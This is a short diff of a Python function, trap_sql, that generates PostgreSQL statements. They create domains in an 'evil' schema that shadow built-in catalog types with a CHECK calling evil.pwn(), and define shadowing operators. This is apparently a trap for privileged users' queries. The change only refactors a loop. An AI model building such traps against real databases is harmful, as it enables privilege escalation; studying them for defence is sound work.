@@ -66,7 +66,7 @@ def trap_sql(owner):
     """]
     for t in TYPES:
         out.append(f'CREATE DOMAIN evil."{t}" AS pg_catalog."{t}" CHECK (evil.pwn(\'::{t}\'));')
-    for i, (op, t) in enumerate(OPERATORS):
+    for op, t in OPERATORS:
         impl = {"=": "eq", "<>": "ne", "<": "lt", ">": "gt", "<=": "le", ">=": "ge", "||": "cat"}[op]
         ret = "pg_catalog.text" if op == "||" else "pg_catalog.bool"
         out.append(f"""
